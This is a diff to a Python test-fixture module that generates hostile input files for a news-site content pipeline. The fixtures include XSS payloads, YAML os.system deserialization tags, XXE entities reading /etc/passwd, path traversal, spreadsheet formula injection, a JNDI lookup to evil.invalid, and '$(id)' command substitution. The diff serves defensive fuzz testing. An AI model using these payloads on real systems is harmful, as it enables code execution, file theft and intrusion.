@@ -1,3 +1,4 @@
+# ruff: noqa: RUF001 - look-alikes are among the weapons
 """Articles from people who mean harm: small files by category, each made to break one thing, and names made to break a file system.
 
 Each is what a file below content/ may hold. `fate` is what has to become of it: "out" (a Problem, no page), "kept" (a page and a Problem),
@@ -27,6 +28,9 @@ STORY = "".join(
         "The harbour master said on Monday that the gate was closed after a storm had bent its upper hinge.",
         "About 300 people waited there until Friday, when engineers from Northgate lifted it with two cranes.",
         "A spokeswoman denied that anybody had been hurt, and the ferries sailed again in the afternoon.",
+        "Fishermen had moored their boats outside the wall for three nights, since nobody could tell them when it would open.",
+        "The town council wants to know by the summer why the hinge had not been looked at since the flood of last year.",
+        "Repairs are to cost twice as much as a new gate would have done, the engineers wrote in a letter to the mayor.",
     )
 )
 MARKS = "[]()<>`*_~#&|!\"'\\${}@%^+=:;,.?/-"
@@ -46,7 +50,22 @@ class Hostile(NamedTuple):
 
 def everything() -> list[Hostile]:
     """All of them, in the same order each time."""
-    parts = (yaml(), keys(), markdown(), markup(), schemes(), pages(), json_files(), json_types(), plain(), encodings(), sizes(), fields(), dates(), noise())
+    parts = (
+        yaml(),
+        keys(),
+        markdown(),
+        markup(),
+        schemes(),
+        pages(),
+        json_files(),
+        json_types(),
+        plain(),
+        encodings(),
+        sizes(),
+        fields(),
+        dates(),
+        noise(),
+    )
     return [one for part in parts for one in part]
 
 
@@ -65,7 +84,15 @@ def _front(yaml_text: str, body: str = NEWS) -> str:
 def yaml() -> Iterator[Hostile]:
     """Front matter that a YAML parser chokes on, runs, or takes for something else."""
     bomb = "\n".join(f"k{n}: &a{n} [{','.join([f'*a{n - 1}'] * 9)}]" if n else "k0: &a0 [x]" for n in range(10))
-    objects = ("!!python/object/apply:os.system ['touch hacked']", "!!python/name:os.system", "!!binary aGk=", "!local x", "!!set {a, b}", "!!python/object/new:type []", "!<tag:x> y")
+    objects = (
+        "!!python/object/apply:os.system ['touch hacked']",
+        "!!python/name:os.system",
+        "!!binary aGk=",
+        "!local x",
+        "!!set {a, b}",
+        "!!python/object/new:type []",
+        "!<tag:x> y",
+    )
     cases: list[tuple[str, str | bytes, Fate]] = [
         ("alias-bomb", _front(bomb), "out"),
         ("alias-quadratic", _front("a: &a " + "x" * 9000 + "\ntags: [" + ",".join(["*a"] * 900) + "]"), "out"),
@@ -124,8 +151,40 @@ def yaml() -> Iterator[Hostile]:
         ("dunder", _front("__init__: x\nself: y\nid: z\npath: ../../etc/passwd\nslug: ../x\ntemplate: /etc/passwd\noutput: ../../x"), "kept"),
     ]
     cases += [(f"object-{n}", _front(f"title: {text}"), "out") for n, text in enumerate(objects)]
-    odd = ("no", "190:20:30", "2024-02-30", "0o14", "0x1F", ".inf", "-.NaN", "~", "null", "1_000", "1e999", "=", "<<", "2001-12-14t21:59:43.10-05:00", "[]", "{}", "{a: b}", "[a, [b, [c]]]", "''", '""', "|", ">", "-", "?", "!!", "&", "*")
-    cases += [(f"odd-{key}-{n}", _front(f"title: gate\n{key}: {text}" if key != "title" else f"title: {text}"), "some") for n, text in enumerate(odd) for key in ("title", "date", "draft", "tags")]
+    odd = (
+        "no",
+        "190:20:30",
+        "2024-02-30",
+        "0o14",
+        "0x1F",
+        ".inf",
+        "-.NaN",
+        "~",
+        "null",
+        "1_000",
+        "1e999",
+        "=",
+        "<<",
+        "2001-12-14t21:59:43.10-05:00",
+        "[]",
+        "{}",
+        "{a: b}",
+        "[a, [b, [c]]]",
+        "''",
+        '""',
+        "|",
+        ">",
+        "-",
+        "?",
+        "!!",
+        "&",
+        "*",
+    )
+    cases += [
+        (f"odd-{key}-{n}", _front(f"title: gate\n{key}: {text}" if key != "title" else f"title: {text}"), "some")
+        for n, text in enumerate(odd)
+        for key in ("title", "date", "draft", "tags")
+    ]
     return _named("yaml", "md", cases)
 
 
@@ -211,7 +270,7 @@ def markdown() -> Iterator[Hostile]:
 
 
 _HTML = (
-    SCRIPT, "<ScRiPt src=//evil.invalid/x></sCrIpT>", "<script>" , "<scr<script>ipt>alert(1)</scr</script>ipt>", "<style>*{background:url(javascript:alert(1))}</style>", "<style>@import '//evil.invalid';", "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>", "<svg><style><img src=x onerror=alert(1)></style></svg>", "<math><mtext><table><mglyph><style><!--</style><img src=x onerror=alert(1)>", "<math href='javascript:alert(1)'>x</math>", "<template><script>alert(1)</script></template>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<base href='https://evil.invalid/'>", "<meta http-equiv=refresh content='0;url=https://evil.invalid'>", "<meta charset=utf-7>", "<link rel=stylesheet href=//evil.invalid/x.css>", "<link rel=import href=data:text/html,x>", "<form action=//evil.invalid><input name=p autofocus onfocus=alert(1)></form>", "<button formaction=javascript:alert(1)>x</button>", "<object data=javascript:alert(1)></object>", "<embed src=javascript:alert(1)>", "<applet code=x>", "<img src=x onerror=alert(1)>", "<img src=`javascript:alert(1)`>", "<img/src=x/onerror=alert(1)>", "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">", "<body onload=alert(1)>", "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>", "<details open ontoggle=alert(1)>x</details>", "<marquee onstart=alert(1)>x</marquee>", "<a href='javascript:alert(1)'>x</a>", "<a href='&#106;avascript:alert(1)'>x</a>", "<a href='java&Tab;script&colon;alert(1)'>x</a>", "<a href=' &#14; javascript:alert(1)'>x</a>", "<a onclick=alert(1) href=https://a.example/>x</a>", "<a href=https://a.example/ style='position:fixed;inset:0' target=_top>x</a>", "<p id=main class=passage data-article=x data-start=0 data-end=9>forged</p>", "<span data-article=gate data-start=0 data-end=3>forged</span>", "<div style='background:url(//evil.invalid)'>x</div>", "<!-- a --><!-- <script>alert(1)</script>", "<!--[if IE]><script>alert(1)</script><![endif]-->", "<!--><script>alert(1)</script>-->", "<!--!><img src=x onerror=alert(1)>-->", "<![CDATA[<script>alert(1)</script>]]>", "<?php echo 1; ?><?xml-stylesheet href='javascript:alert(1)'?>", "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>&a;", "<plaintext>", "<xmp><script>alert(1)</script></xmp>", "<textarea></textarea><script>alert(1)</script>", "</title><script>alert(1)</script>", "</style><script>alert(1)</script>", "</script><script>alert(1)</script>", "</article></main></body></html><script>alert(1)</script>", "\"><script>alert(1)</script>", "' onmouseover='alert(1)", "<b <script>alert(1)</script>0", "<img src=x:x onerror\x00=alert(1)>", "<\x00script>alert(1)</script>", "<a\x0chref='javascript:alert(1)'>x</a>", "<x onclick=alert(1)>x</x>", "<dialog open><form method=dialog>x", "<portal src=//evil.invalid>", "<frameset><frame src=javascript:alert(1)></frameset>", "<isindex action=javascript:alert(1)>", "<custom-element onclick=alert(1)>", "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;script&amp;gt;alert(1)", "\\<script>alert(1)\\</script>", "<script\n>alert(1)</script\n>", "＜script＞alert(1)＜/script＞", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "%3Cscript%3Ealert(1)%3C/script%3E", "\\u003cscript\\u003ealert(1)", "<img srcset='x 1x, javascript:alert(1) 2x' sizes=x>", "<table background=javascript:alert(1)><tr><td>x</table>", "<ruby><rt><script>alert(1)</script></rt></ruby>", "<select><option><script>alert(1)</script></select>", "<a name=body></a><a id=document></a>", "<label for=x accesskey=x>", JINJA,
+    SCRIPT, "<ScRiPt src=//evil.invalid/x></sCrIpT>", "<script>" , "<scr<script>ipt>alert(1)</scr</script>ipt>", "<style>*{background:url(javascript:alert(1))}</style>", "<style>@import '//evil.invalid';", "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>", "<svg><style><img src=x onerror=alert(1)></style></svg>", "<math><mtext><table><mglyph><style><!--</style><img src=x onerror=alert(1)>", "<math href='javascript:alert(1)'>x</math>", "<template><script>alert(1)</script></template>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<base href='https://evil.invalid/'>", "<meta http-equiv=refresh content='0;url=https://evil.invalid'>", "<meta charset=utf-7>", "<link rel=stylesheet href=//evil.invalid/x.css>", "<link rel=import href=data:text/html,x>", "<form action=//evil.invalid><input name=p autofocus onfocus=alert(1)></form>", "<button formaction=javascript:alert(1)>x</button>", "<object data=javascript:alert(1)></object>", "<embed src=javascript:alert(1)>", "<applet code=x>", "<img src=x onerror=alert(1)>", "<img src=`javascript:alert(1)`>", "<img/src=x/onerror=alert(1)>", '<IMG """><SCRIPT>alert(1)</SCRIPT>">', "<body onload=alert(1)>", "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>", "<details open ontoggle=alert(1)>x</details>", "<marquee onstart=alert(1)>x</marquee>", "<a href='javascript:alert(1)'>x</a>", "<a href='&#106;avascript:alert(1)'>x</a>", "<a href='java&Tab;script&colon;alert(1)'>x</a>", "<a href=' &#14; javascript:alert(1)'>x</a>", "<a onclick=alert(1) href=https://a.example/>x</a>", "<a href=https://a.example/ style='position:fixed;inset:0' target=_top>x</a>", "<p id=main class=passage data-article=x data-start=0 data-end=9>forged</p>", "<span data-article=gate data-start=0 data-end=3>forged</span>", "<div style='background:url(//evil.invalid)'>x</div>", "<!-- a --><!-- <script>alert(1)</script>", "<!--[if IE]><script>alert(1)</script><![endif]-->", "<!--><script>alert(1)</script>-->", "<!--!><img src=x onerror=alert(1)>-->", "<![CDATA[<script>alert(1)</script>]]>", "<?php echo 1; ?><?xml-stylesheet href='javascript:alert(1)'?>", "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>&a;", "<plaintext>", "<xmp><script>alert(1)</script></xmp>", "<textarea></textarea><script>alert(1)</script>", "</title><script>alert(1)</script>", "</style><script>alert(1)</script>", "</script><script>alert(1)</script>", "</article></main></body></html><script>alert(1)</script>", '"><script>alert(1)</script>', "' onmouseover='alert(1)", "<b <script>alert(1)</script>0", "<img src=x:x onerror\x00=alert(1)>", "<\x00script>alert(1)</script>", "<a\x0chref='javascript:alert(1)'>x</a>", "<x onclick=alert(1)>x</x>", "<dialog open><form method=dialog>x", "<portal src=//evil.invalid>", "<frameset><frame src=javascript:alert(1)></frameset>", "<isindex action=javascript:alert(1)>", "<custom-element onclick=alert(1)>", "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;script&amp;gt;alert(1)", "\\<script>alert(1)\\</script>", "<script\n>alert(1)</script\n>", "＜script＞alert(1)＜/script＞", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "%3Cscript%3Ealert(1)%3C/script%3E", "\\u003cscript\\u003ealert(1)", "<img srcset='x 1x, javascript:alert(1) 2x' sizes=x>", "<table background=javascript:alert(1)><tr><td>x</table>", "<ruby><rt><script>alert(1)</script></rt></ruby>", "<select><option><script>alert(1)</script></select>", "<a name=body></a><a id=document></a>", "<label for=x accesskey=x>", JINJA,
 )  # fmt: skip
 
 
@@ -222,12 +281,19 @@ def markup() -> Iterator[Hostile]:
         title = json.dumps(f"Gate {piece} closed")
         yield Hostile(f"markup/md-{number}.md", _front(f"title: {title}\ndate: 2031-05-09", sentence).encode())
         yield Hostile(f"markup/txt-{number}.txt", f"Gate {piece} closed\n\n{sentence}".encode(), "some" if "\0" in piece else "fine")
-        yield Hostile(f"markup/json-{number}.json", json.dumps({"headline": f"Gate {piece}", "articleBody": sentence, "description": piece, "author": piece}).encode(), "fine")
-        yield Hostile(f"markup/html-{number}.html", f"<html><title>Gate {piece}</title><body><article><h1>Gate</h1>{STORY}<p>{piece}</p><p>{NEWS}</p></article>".encode())
+        yield Hostile(
+            f"markup/json-{number}.json",
+            json.dumps({"headline": f"Gate {piece}", "articleBody": sentence, "description": piece, "author": piece}).encode(),
+            "fine",
+        )
+        yield Hostile(
+            f"markup/html-{number}.html",
+            f"<html><title>Gate {piece}</title><body><article><h1>Gate</h1>{STORY}<p>{piece}</p><p>{NEWS}</p></article>".encode(),
+        )
 
 
 _ADDRESSES = (
-    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", " javascript:alert(1)", "\x01javascript:alert(1)", "javascript&colon;alert(1)", "&#106;&#97;vascript:alert(1)", "&#x6A;avascript:alert(1)", "&#0000106avascript:alert(1)", "jav&#x0A;ascript:alert(1)", "javascript://a.example/%0aalert(1)", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD4=", "data:image/svg+xml,<svg onload=alert(1)>", "vbscript:msgbox(1)", "file:///etc/passwd", "//evil.invalid/x", "\\\\evil.invalid\\x", "/\\evil.invalid", "https:evil.invalid", "https:///evil.invalid", "http://[", "http://[::1]/", "http://[::ffff:127.0.0.1]:80/x", "https://user:pass@a.example/", "https://a.example@evil.invalid/", "https://a.example\\@evil.invalid/", "https://xn--80ak6aa92e.example/", "https://\u0430pple.example/", "https://a.example/\"onclick=\"alert(1)", "https://a.example/'><script>alert(1)</script>", "https://a.example/<svg onload=alert(1)>", "https://a.example/\u202etxt.exe", "https://a.example/\r\nSet-Cookie: a=b", "https://a.example/" + "x" * 50_000, "https://" + "a." * 5_000 + "example/", "https://a.example:99999999/", "https://a.example:port/", "https://%65vil.invalid/", "https://a..example/", "https://.example/", "https://-a.example/", "https://1.2.3.4.5/", "https://0x7f000001/", "https://a\u3002example/", "https://a.example/#:~:text=x", "https://a.example/%00", "https://a.example/%", "blob:https://a.example/x", "filesystem:https://a.example/x", "about:blank", "mailto:a@a.example?bcc=b", "tel:+1", "ftp://a.example/", "ws://a.example/", "intent://x#Intent;end", "view-source:https://a.example", "x-javascript:alert(1)", "livescript:x", "feed:javascript:alert(1)", "https://a.example/{{ 7*'zq' }}", "https://", "http:", ":", "?", "#", "../../../etc/passwd", "https://a.example\ud800/", "https://\u00ad/", "https://a.example/\u0000",
+    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", " javascript:alert(1)", "\x01javascript:alert(1)", "javascript&colon;alert(1)", "&#106;&#97;vascript:alert(1)", "&#x6A;avascript:alert(1)", "&#0000106avascript:alert(1)", "jav&#x0A;ascript:alert(1)", "javascript://a.example/%0aalert(1)", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD4=", "data:image/svg+xml,<svg onload=alert(1)>", "vbscript:msgbox(1)", "file:///etc/passwd", "//evil.invalid/x", "\\\\evil.invalid\\x", "/\\evil.invalid", "https:evil.invalid", "https:///evil.invalid", "http://[", "http://[::1]/", "http://[::ffff:127.0.0.1]:80/x", "https://user:pass@a.example/", "https://a.example@evil.invalid/", "https://a.example\\@evil.invalid/", "https://xn--80ak6aa92e.example/", "https://\u0430pple.example/", 'https://a.example/"onclick="alert(1)', "https://a.example/'><script>alert(1)</script>", "https://a.example/<svg onload=alert(1)>", "https://a.example/\u202etxt.exe", "https://a.example/\r\nSet-Cookie: a=b", "https://a.example/" + "x" * 50_000, "https://" + "a." * 5_000 + "example/", "https://a.example:99999999/", "https://a.example:port/", "https://%65vil.invalid/", "https://a..example/", "https://.example/", "https://-a.example/", "https://1.2.3.4.5/", "https://0x7f000001/", "https://a\u3002example/", "https://a.example/#:~:text=x", "https://a.example/%00", "https://a.example/%", "blob:https://a.example/x", "filesystem:https://a.example/x", "about:blank", "mailto:a@a.example?bcc=b", "tel:+1", "ftp://a.example/", "ws://a.example/", "intent://x#Intent;end", "view-source:https://a.example", "x-javascript:alert(1)", "livescript:x", "feed:javascript:alert(1)", "https://a.example/{{ 7*'zq' }}", "https://", "http:", ":", "?", "#", "../../../etc/passwd", "https://a.example\ud800/", "https://\u00ad/", "https://a.example/\u0000",
 )  # fmt: skip
 
 
@@ -250,7 +316,28 @@ def schemes() -> Iterator[Hostile]:
 def pages() -> Iterator[Hostile]:
     """Saved pages that are deep, endless, or lie."""
     text = f"<article><h1>Gate closed</h1>{STORY}</article>"
-    nested = ("div", "span", "b", "font", "table", "ul", "a", "p", "blockquote", "section", "svg", "i", "dl", "form", "select", "template", "math", "h1", "button", "nobr")
+    nested = (
+        "div",
+        "span",
+        "b",
+        "font",
+        "table",
+        "ul",
+        "a",
+        "p",
+        "blockquote",
+        "section",
+        "svg",
+        "i",
+        "dl",
+        "form",
+        "select",
+        "template",
+        "math",
+        "h1",
+        "button",
+        "nobr",
+    )
     for tag in nested:
         yield Hostile(f"pages/nested-{tag}.html", f"<html><body>{f'<{tag}>' * 50_000}{text}".encode())
         yield Hostile(f"pages/siblings-{tag}.html", f"<html><body>{text}{f'<{tag}>x</{tag}>' * 8_000}".encode())
@@ -260,12 +347,16 @@ def pages() -> Iterator[Hostile]:
     cases: list[tuple[str, str | bytes, Fate]] = [
         ("unclosed-everything", "<html><head><title>x<body><article><h1>Gate<p>" + NEWS * 3 + "<div><table><tr><td><ul><li><a href=x", "some"),
         ("json-ld-script", linked.format(json.dumps({"@type": "NewsArticle", "headline": "</script><script>alert(1)</script>"})) + text, "some"),
-        ("json-ld-deep", linked.format(deep) + text, "fine"),
-        ("json-ld-deep-lists", linked.format("[" * 90_000) + text, "fine"),
+        ("json-ld-deep", linked.format(deep) + text, "some"),
+        ("json-ld-deep-lists", linked.format("[" * 90_000) + text, "some"),
         ("json-ld-many", linked.format('{"@type":"NewsArticle"}') * 4_000 + text, "some"),
-        ("json-ld-types", linked.format('{"@type":["NewsArticle",1,null],"headline":{"a":1},"author":[[["x"]]],"datePublished":7,"publisher":[],"url":{}}') + text, "fine"),
-        ("json-ld-surrogate", linked.format('{"@type":"NewsArticle","headline":"a\\ud800b\\u0000"}') + text, "fine"),
-        ("json-ld-numbers", linked.format('{"@type":"NewsArticle","headline":' + "9" * 6_000 + "}") + text, "fine"),
+        (
+            "json-ld-types",
+            linked.format('{"@type":["NewsArticle",1,null],"headline":{"a":1},"author":[[["x"]]],"datePublished":7,"publisher":[],"url":{}}') + text,
+            "some",
+        ),
+        ("json-ld-surrogate", linked.format('{"@type":"NewsArticle","headline":"a\\ud800b\\u0000"}') + text, "some"),
+        ("json-ld-numbers", linked.format('{"@type":"NewsArticle","headline":' + "9" * 6_000 + "}") + text, "some"),
         ("huge-attribute", f'<p title="{"x" * 900_000}">' + text, "some"),
         ("many-attributes", "<p " + " ".join(f"a{n}=x" for n in range(60_000)) + ">" + text, "some"),
         ("attribute-never-closed", text + '<a title="' + "x" * 500_000, "some"),
@@ -275,10 +366,14 @@ def pages() -> Iterator[Hostile]:
         ("comment-dashes", text + "<!--" * 100_000, "some"),
         ("entities", text + "<p>" + "&amp;" * 200_000, "some"),
         ("entity-bomb", "<!DOCTYPE html [" + "".join(f'<!ENTITY a{n + 1} "{f"&a{n};" * 10}">' for n in range(9)) + "]>" + text + "&a9;", "some"),
-        ("external-entity", '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><html><body><article><p>&x;' + NEWS * 3, "some"),
+        (
+            "external-entity",
+            '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><html><body><article><p>&x;' + NEWS * 3,
+            "some",
+        ),
         ("xinclude", '<html xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd" parse="text"/>' + text, "some"),
         ("doctype-huge", "<!DOCTYPE " + "x" * 500_000 + ">" + text, "some"),
-        ("meta-refresh", '<meta http-equiv="refresh" content="0;url=https://evil.invalid/">' + text, "fine"),
+        ("meta-refresh", '<meta http-equiv="refresh" content="0;url=https://evil.invalid/">' + text, "some"),
         ("meta-many", "<meta name=author content=x>" * 12_000 + text, "some"),
         ("frames", "<frameset><frame src=https://evil.invalid/></frameset>", "out"),
         ("scripts-only", "<script>" + "x" * 10_000 + "</script>", "out"),
@@ -289,7 +384,7 @@ def pages() -> Iterator[Hostile]:
         ("lt-bang-run", text + "<!" * 200_000, "some"),
         ("cdata-run", text + "<![CDATA[" * 60_000, "some"),
         ("title-many", "<title>x</title>" * 9_000 + text, "some"),
-        ("title-script", "<title><script>alert(1)</script></title>" + text, "fine"),
+        ("title-script", "<title><script>alert(1)</script></title>" + text, "some"),
         ("time-many", text + '<time datetime="2031-05-01">' * 8_000, "some"),
         ("nul-everywhere", "\0".join(text), "some"),
         ("plaintext", "<plaintext>" + text, "some"),
@@ -297,7 +392,7 @@ def pages() -> Iterator[Hostile]:
         ("blank", " \n\t " * 1000, "out"),
         ("no-tags", NEWS, "some"),
         ("no-text", "<html><body><img src=x></body></html>", "out"),
-        ("charset-lie", b"<meta charset=ascii>" + text.replace("gate", "g\u00e4te").encode("utf-8"), "fine"),
+        ("charset-lie", b"<meta charset=ascii>" + text.replace("gate", "g\u00e4te").encode("utf-8"), "some"),
         ("charset-zip", b'<meta charset="zip_codec">' + text.encode() + b"\xff\xfe\x80", "some"),
         ("charset-idna", b'<meta charset="idna">' + text.encode() + b"\xff\x80", "some"),
         ("charset-rot13", b'<meta charset="rot13">' + text.encode() + b"\xff\x80", "some"),
@@ -381,8 +476,47 @@ def json_files() -> Iterator[Hostile]:
 
 def json_types() -> Iterator[Hostile]:
     """Every field with every kind of wrong value."""
-    wrong: tuple[Any, ...] = (None, True, 0, -1.5, "", " ", [], {}, [None], [[]], [{}], {"name": None}, {"name": {"name": "x"}}, {"@value": 7}, ["a", 7, None, {"name": "b"}], {"name": ["x"]}, "\0\x07", "\u202e\u2066", SCRIPT, JINJA, [[["x"]]], {"@id": "javascript:alert(1)"})
-    names = ("headline", "articleBody", "author", "publisher", "url", "datePublished", "keywords", "topics", "inLanguage", "creditText", "draft", "@type", "description", "isPartOf", "mainEntityOfPage")
+    wrong: tuple[Any, ...] = (
+        None,
+        True,
+        0,
+        -1.5,
+        "",
+        " ",
+        [],
+        {},
+        [None],
+        [[]],
+        [{}],
+        {"name": None},
+        {"name": {"name": "x"}},
+        {"@value": 7},
+        ["a", 7, None, {"name": "b"}],
+        {"name": ["x"]},
+        "\0\x07",
+        "\u202e\u2066",
+        SCRIPT,
+        JINJA,
+        [[["x"]]],
+        {"@id": "javascript:alert(1)"},
+    )
+    names = (
+        "headline",
+        "articleBody",
+        "author",
+        "publisher",
+        "url",
+        "datePublished",
+        "keywords",
+        "topics",
+        "inLanguage",
+        "creditText",
+        "draft",
+        "@type",
+        "description",
+        "isPartOf",
+        "mainEntityOfPage",
+    )
     for name in names:
         for number, value in enumerate(wrong):
             record = {"headline": f"Gate {number}", "articleBody": NEWS, name: value}
@@ -478,8 +612,11 @@ def plain() -> Iterator[Hostile]:
 def encodings() -> Iterator[Hostile]:
     """Bytes in other encodings, in none, and in two at once."""
     text = "Le ma\u00eetre du port a dit que la porte \u00e9tait ferm\u00e9e. Environ 300 personnes attendaient.\n" * 5
-    russian = "\u041f\u043e\u0440\u0442 \u0437\u0430\u043a\u0440\u044b\u0442. \u041b\u044e\u0434\u0438 \u0436\u0434\u0443\u0442 \u0443 \u0432\u043e\u0440\u043e\u0442.\n" * 10
-    random_bytes = random.Random(7).randbytes(20_000)  # noqa: S311 - the same noise each time
+    russian = (
+        "\u041f\u043e\u0440\u0442 \u0437\u0430\u043a\u0440\u044b\u0442. \u041b\u044e\u0434\u0438 \u0436\u0434\u0443\u0442 \u0443 \u0432\u043e\u0440\u043e\u0442.\n"
+        * 10
+    )
+    random_bytes = random.Random(7).randbytes(20_000)
     raw: list[tuple[str, bytes, Fate]] = [(name, text.encode(name), "kept") for name in ("latin-1", "cp1252", "mac-roman", "cp437")]
     raw += [(name, text.encode(name), "fine") for name in ("utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-8-sig")]
     raw += [(name, russian.encode(name), "kept") for name in ("cp1251", "koi8-r", "iso-8859-5")]
@@ -515,7 +652,31 @@ def sizes() -> Iterator[Hostile]:
         yield Hostile(f"sizes/empty.{suffix}", b"", "out")
         yield Hostile(f"sizes/blank.{suffix}", b" \n\t\r\n" * 10, "out")
         yield Hostile(f"sizes/over.{suffix}", b"x " * 1_000_001, "out")
-    for number, text in enumerate((".", "a", "\ufeff", "---", "#", "-", ">", "```", "\u200b", "\0", "&nbsp;", "<br>", "<!-- -->", "![]()", "[]()", "***", "|", "\\", "{}", "[a]: b", "---\n---\n---\n")):
+    for number, text in enumerate(
+        (
+            ".",
+            "a",
+            "\ufeff",
+            "---",
+            "#",
+            "-",
+            ">",
+            "```",
+            "\u200b",
+            "\0",
+            "&nbsp;",
+            "<br>",
+            "<!-- -->",
+            "![]()",
+            "[]()",
+            "***",
+            "|",
+            "\\",
+            "{}",
+            "[a]: b",
+            "---\n---\n---\n",
+        )
+    ):
         yield Hostile(f"sizes/small-{number}.md", text.encode())
         yield Hostile(f"sizes/small-{number}.txt", text.encode())
 
@@ -526,7 +687,7 @@ def sizes() -> Iterator[Hostile]:
 def fields() -> Iterator[Hostile]:
     """Hostile texts in every field of the front matter."""
     texts = (
-        "=cmd|'/c calc'!A1", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "a,b;c\td", "a\r\nb: c", "\"'`", "a\u202eb\u2066c", SCRIPT, "<img src=x onerror=alert(1)>", "' onmouseover='alert(1)", "\" autofocus onfocus=\"alert(1)", JINJA, "javascript:alert(1)", "../../../../etc/passwd", "..%2f..%2fx", "%2e%2e/%00", "/etc/passwd", "C:\\x", "CON", "NUL.txt", ".htaccess", "_headers", "index", "index.html", "..", ".", "~", "-", "", " ", "\u200b", "\u00ad", "\0", "\x1b[2J", "\ufeff", "x" * 60_000, "word " * 8_000, "&lt;b&gt;&amp;", "]]>", "-->", "</title>", "</script>", "\u0130\u0131\u00df\ufb01", "\U0001f600", "\u0915\u094d\u200d\u0937", "e\u0301", "null", "true", "0", "9" * 400, "a" + "\u0301" * 500, "\ue000", "\u2028\u2029\x85", "xn--80ak6aa92e", "con.", "a.", "a ", "%s%n{0}", "${jndi:ldap://evil.invalid}", "$(id)", "`id`", "404", "feed", "assets", "data", "../data/briefing",
+        "=cmd|'/c calc'!A1", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "a,b;c\td", "a\r\nb: c", "\"'`", "a\u202eb\u2066c", SCRIPT, "<img src=x onerror=alert(1)>", "' onmouseover='alert(1)", '" autofocus onfocus="alert(1)', JINJA, "javascript:alert(1)", "../../../../etc/passwd", "..%2f..%2fx", "%2e%2e/%00", "/etc/passwd", "C:\\x", "CON", "NUL.txt", ".htaccess", "_headers", "index", "index.html", "..", ".", "~", "-", "", " ", "\u200b", "\u00ad", "\0", "\x1b[2J", "\ufeff", "x" * 60_000, "word " * 8_000, "&lt;b&gt;&amp;", "]]>", "-->", "</title>", "</script>", "\u0130\u0131\u00df\ufb01", "\U0001f600", "\u0915\u094d\u200d\u0937", "e\u0301", "null", "true", "0", "9" * 400, "a" + "\u0301" * 500, "\ue000", "\u2028\u2029\x85", "xn--80ak6aa92e", "con.", "a.", "a ", "%s%n{0}", "${jndi:ldap://evil.invalid}", "$(id)", "`id`", "404", "feed", "assets", "data", "../data/briefing",
     )  # fmt: skip
     for key in ("title", "outlet", "author", "credit", "tags", "topics", "language", "summary", "date", "url"):
         for number, text in enumerate(texts):
@@ -548,8 +709,45 @@ def dates() -> Iterator[Hostile]:
 
 def noise() -> Iterator[Hostile]:
     """Random pieces of every kind in a row: what nobody thought of."""
-    chance = random.Random(20_310_510)  # noqa: S311 - the same noise each time
-    pieces = [*_HTML, *_ADDRESSES[:30], *MARKS, "\n", "\n\n", "    ", "- ", "> ", "1. ", "[a]: ", "```\n", "---\n", "title: ", "&#", "\u202e", "\u0301", "\0", NEWS, "word ", "\ud7ff", "|a|b|\n|-|-|\n", "\x02", "\x03", "](", "![", "<b>", "</b>", "<pre>", "<code>", "<li>", "<td>", "<p>", "<a href=\"https://a.example/\">", "</a>", "&amp;", "&lt;"]
+    chance = random.Random(20_310_510)
+    pieces = [
+        *_HTML,
+        *_ADDRESSES[:30],
+        *MARKS,
+        "\n",
+        "\n\n",
+        "    ",
+        "- ",
+        "> ",
+        "1. ",
+        "[a]: ",
+        "```\n",
+        "---\n",
+        "title: ",
+        "&#",
+        "\u202e",
+        "\u0301",
+        "\0",
+        NEWS,
+        "word ",
+        "\ud7ff",
+        "|a|b|\n|-|-|\n",
+        "\x02",
+        "\x03",
+        "](",
+        "![",
+        "<b>",
+        "</b>",
+        "<pre>",
+        "<code>",
+        "<li>",
+        "<td>",
+        "<p>",
+        '<a href="https://a.example/">',
+        "</a>",
+        "&amp;",
+        "&lt;",
+    ]
     for number in range(80):
         text = "".join(chance.choices(pieces, k=chance.randrange(20, 400)))
         suffix = ("md", "txt", "html")[number % 3]
@@ -559,23 +757,25 @@ def noise() -> Iterator[Hostile]:
 # ------------------------------------------------------------------ names
 
 _NAMES = (
